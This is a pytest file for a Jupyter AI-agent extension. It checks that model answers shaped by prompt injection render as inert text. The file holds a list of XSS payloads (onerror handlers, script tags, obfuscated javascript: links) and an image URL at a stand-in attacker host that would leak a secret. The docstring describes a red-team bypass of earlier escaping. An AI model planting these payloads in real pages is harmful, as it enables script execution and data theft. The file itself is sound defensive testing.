"""Hostile ``%%agent`` answers rendered the way a front end renders them: nothing from the answer
becomes a tag, an attribute or a ``javascript:`` link.

Why: JupyterLab renders a kernel's (trusted) Markdown and HTML output without sanitizing, and a
model repeats whatever text it was shown (prompt injection). The fourth red team got
``<img onerror>`` through ``answer_markdown`` with an escaped backtick and with a code span over a
line break: the escaping guessed where code was with a regular expression, and CommonMark disagreed.

How: every Markdown part of a bundle goes through a real CommonMark renderer (markdown-it-py in
its ``commonmark`` preset, raw HTML on, as a front end has it); every HTML part is read as it is.
The HTML is then parsed (``html.parser``) and each tag, attribute and link checked.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
import test_agent_magic as agent_cells  # its cell_output (a module import: its tests are not collected twice)
from kernel_fixtures import running_kernel
from markdown_it import MarkdownIt

from ipython_compact.agent.events import AgentEvent
from ipython_compact.kernel import display
from ipython_compact.kernel.transcript import Transcript, answer_bundle, answer_html
from ipython_compact.testing.model_server import ModelServer, Reply, ToolCall

HOSTILE = [
    "\\`<img src=x onerror=alert(1)>\\`",  # an escaped backtick is no code span
    "`a\n<img src=x onerror=alert(1)>\nb`",  # a code span over line breaks
    "x ``` y\n\n<img src=x onerror=alert(1)>\n\n```",  # no span: a paragraph ends before its closer
    "``` `` ```<img src=x onerror=alert(1)>",
    "```\ncode\n``\n<img src=x onerror=alert(1)>",  # a fence closed (or not) as CommonMark decides
    "~~~\n<img src=x onerror=alert(1)>\n~~~\n<img src=y onerror=alert(2)>",
    "    indented\n<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<svg><svg onload=alert(1)>",
    "<!-- x --><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt; and &#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<img src=x onerror=alert(1)>",
    "a <a href='javascript:alert(1)'>link</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\\script:alert(1))",
    "[click](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[click][r]\n\n[r]: javascript:alert(1)",
    "[click](vbscript:msgbox(1)) [d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1)) ![y](https://attacker.example/leak?secret=1)",
    "* item <img src=x onerror=alert(1)>\n\n> quote <iframe src=javascript:alert(1)>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `x` |",
]

#: What CommonMark makes of Markdown formatting, plus the wrappers our bundles use themselves.
ALLOWED_TAGS = {
    "p", "em", "strong", "code", "pre", "a", "ul", "ol", "li", "blockquote", "hr", "br",
    "h1", "h2", "h3", "h4", "h5", "h6", "div", "span", "table", "thead", "tbody", "tr", "th", "td",
    "details", "summary",
}  # fmt: skip
SAFE_SCHEMES = ("http:", "https:", "mailto:")
OURS = frozenset({"details", "summary"})  # the transcript folds tool output into its own <details>


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def problems(html_text: str, *, ours: frozenset[str] = frozenset()) -> list[str]:
    """Every tag, attribute or link in ``html_text`` that could run script or fetch a URL."""
    parser = Tags()
    parser.feed(html_text)
    parser.close()
    found = []
    for tag, attrs in parser.tags:
        if tag not in ALLOWED_TAGS or (tag in {"details", "summary"} and tag not in ours):
            found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"src", "srcset", "formaction"}:
                found.append(f"{tag} {name}={value!r}")
            if name == "href" and value is not None:
                # As a browser reads a URL: tabs and newlines dropped, C0 and spaces trimmed.
                url = re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(0x21))))
                scheme = re.match(r"[a-zA-Z][a-zA-Z0-9+.-]*:", url)
                if scheme and scheme.group().lower() not in SAFE_SCHEMES:
                    found.append(f"{tag} href={value!r}")
    return found


def front_end_markdown(text: str) -> str:
    """Markdown as a front end renders it: CommonMark, raw HTML passed through."""
    return MarkdownIt("commonmark", {"html": True}).render(text)


def rendered_forms(bundle: dict[str, object]) -> dict[str, str]:
    out = {}
    if "text/markdown" in bundle:
        out["text/markdown"] = front_end_markdown(str(bundle["text/markdown"]))
    if "text/html" in bundle:
        out["text/html"] = str(bundle["text/html"])
    return out


def test_the_checker_sees_what_the_old_escaping_let_through() -> None:
    """The check itself: a raw ``<img onerror>`` after an escaped backtick is found."""
    rendered = front_end_markdown("\\`<img src=x onerror=alert(1)>\\`")
    assert problems(rendered) == ["<img>", "img src='x'", "img onerror='alert(1)'"]
    assert problems(front_end_markdown("[click](javascript:alert(1))")) == []  # markdown-it refuses it
    assert problems('<a href="javascript:alert(1)">x</a>') == ["a href='javascript:alert(1)'"]


@pytest.mark.parametrize("answer", HOSTILE)
def test_a_hostile_answer_renders_as_text(answer: str) -> None:
    bundle = answer_bundle(answer)
    forms = rendered_forms(bundle)
    assert forms, bundle
    for mime, rendered in forms.items():
        assert problems(rendered) == [], (mime, rendered)
    assert bundle["text/plain"] == answer


@pytest.mark.parametrize("answer", HOSTILE)
def test_hostile_narration_in_the_transcript_renders_as_text(answer: str) -> None:
    t = Transcript()
    for event in (
        AgentEvent("assistant", answer),
        AgentEvent("tool_call", answer),
        AgentEvent("tool_result", answer, {}),
        AgentEvent("error", answer),
    ):
        t.add(event)
    for running in (False, True):
        t.streaming = answer if running else ""
        for mime, rendered in rendered_forms(t.bundle(running=running)).items():
            assert problems(rendered, ours=OURS) == [], (mime, rendered)


def test_the_answer_keeps_its_formatting_in_html() -> None:
    answer = "# Result\n\n**12** items, see [docs](https://example.org/a?b=1&c=2).\n\n- `x < 3`\n- a & b\n"
    out = answer_html(answer)
    assert "<h1>Result</h1>" in out and "<strong>12</strong>" in out
    assert '<a href="https://example.org/a?b=1&amp;c=2">docs</a>' in out
    assert "<code>x &lt; 3</code>" in out and "a &amp; b" in out
    table = answer_html("| a | b |\n|---|---|\n| 1 | ~~2~~ |\n")
    assert "<table>" in table and "<td>1</td>" in table and "<s>2</s>" in table  # as models write them
    code = answer_html("```python\nif x < 3: print('<b>')\n```\n")
    assert code.startswith('<pre><code class="language-python">') and "<span style=" in code  # coloured
    assert "&lt;b&gt;" in code and "<b>" not in code


def test_links_the_answer_may_not_make_stay_text() -> None:
    out = answer_html(
        "[a](javascript:alert(1)) [b](https://ok.example/) [c](mailto:me@example.org) [d](notes.md)"
    )
    assert 'href="https://ok.example/"' in out and 'href="mailto:me@example.org"' in out
    assert 'href="notes.md"' in out  # a relative link stays a link
    assert "javascript" not in out.split("[a]")[0] and "[a](javascript:alert(1))" in out
    # An image would be fetched on display (a URL the model chose, with what it chose to put in it).
    assert "<img" not in answer_html("![x](https://attacker.example/leak?secret=1)")


@pytest.mark.parametrize("text", HOSTILE)
def test_every_kernel_bundle_renders_hostile_text_as_text(text: str) -> None:
    """The other places that show logged or model-made text: tables, fields, summaries, entries."""
    bundles = [
        display.fields_bundle(text, [(text, text)], {"x": text}).bundle,
        display.grid_bundle(text, [text], [[text]], {}).bundle,
        display.rows_bundle(text, [text], [[text]]).bundle,
        display.text_bundle(text, title=text).bundle,
        display.summary_bundle({"id": text, "reason": text, "summary": text}, notice=text).bundle,
        display.entry_bundle(
            {"id": "e1", "parent_id": None, "kind": "message", "timestamp": "t",
             "data": {"message": {"role": "assistant", "content": [{"type": "text", "text": text}]}}}
        ).bundle,
    ]  # fmt: skip
    for bundle in bundles:
        for mime, rendered in rendered_forms(bundle).items():
            assert problems(rendered, ours=OURS) == [], (mime, rendered)


@pytest.mark.slow
def test_a_hostile_answer_in_a_real_kernel_shows_as_text(tmp_path: Path) -> None:
    """End to end: the scripted model narrates and answers with markup; what the kernel sends the
    front end (every display, as finally updated) renders nothing from it."""
    evil = "\\`<img src=x onerror=alert(1)>\\` and x ``` y\n\n<img src=y onerror=alert(2)>\n\n```"
    replies = [Reply(text=evil, tool_calls=(ToolCall("python", {"code": "print(1)"}),)), Reply(text=evil)]
    with ModelServer(replies) as srv, running_kernel(tmp_path) as km:
        kc = km.client()
        kc.start_channels()
        try:
            agent_cells.cell_output(kc, "%load_ext ipython_compact")
            head = f"%%agent --model local --base-url {srv.base_url} --window 32000\n"
            shown, _ = agent_cells.cell_output(kc, head + "Say it.")
        finally:
            kc.stop_channels()
    assert len(shown) == 2 and shown[1]["text/plain"] == evil  # the transcript, then the answer
    for bundle in shown:
        for mime, rendered in rendered_forms(bundle).items():
            assert problems(rendered, ours=OURS) == [], (mime, rendered)
    assert "&lt;img src=x onerror=alert(1)&gt;" in shown[1]["text/html"]
